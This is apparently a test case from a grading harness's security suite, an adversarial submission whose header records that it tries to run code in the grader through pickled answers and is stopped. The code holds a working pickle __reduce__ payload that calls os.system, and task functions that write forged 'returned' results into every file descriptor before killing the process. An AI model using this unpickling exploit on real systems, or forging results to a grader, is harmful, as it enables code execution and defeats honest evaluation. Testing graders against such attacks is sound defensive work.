# Tries: to run code in the grader, by answering with pickles in each place of a frame: as JSON, as tensors, as both.
# Stopped by: never unpickling; tensors are read as safetensors, the rest as JSON.
# Score: HALF
# Says: ended the whole program
# Process: yes
# Place: after
import io
import os
import pickle
import struct

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-unpickled /dev/shm/attack-was-unpickled",)


def answers():
    pickled = pickle.dumps(Payload())
    saved = io.BytesIO()
    torch.save(Payload(), saved)
    message = b'{"ended": "returned", "value": {"kind": "tensor", "type": "Tensor", "tensor": "t0"}}'
    for text, blob in ((pickled, b""), (message, pickled), (message, saved.getvalue()), (pickled, pickled)):
        yield struct.pack("!II", len(text), len(blob)) + text + blob


number = 0


def project(x, table):
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, b"".join(answers()))
        except OSError:
            pass
    os._exit(0)


def attend_one(query, k, v):
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, list(answers())[1])
        except OSError:
            pass
    os._exit(0)
